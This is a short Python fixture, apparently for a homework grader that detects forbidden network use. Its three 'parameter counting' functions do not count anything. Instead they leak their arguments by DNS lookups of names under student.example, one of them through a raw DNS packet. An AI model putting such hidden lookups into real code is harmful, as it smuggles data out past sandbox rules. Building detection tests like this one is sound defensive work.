"""parameters.py
attack: sends what it knows as the name of a machine that is looked up
all: forbidden
says: count_dense uses the network (socket.getaddrinfo), which no part of this homework needs or allows
says: count_conv uses the network (socket.gethostbyname)
says: count_network asked the system for something that no homework needs
"""
import socket


def count_dense(layer_sizes, bias=True):
    socket.getaddrinfo(f"{layer_sizes[0]}.student.example", 80)


def count_conv(in_channels, out_channels, kernel_size, bias=True):
    socket.gethostbyname(f"{in_channels}.student.example")


def count_network(input_shape, layers, bias=True):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as question:
        question.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0\7student\7example\0\0\1\0\1", ("127.0.0.53", 53))
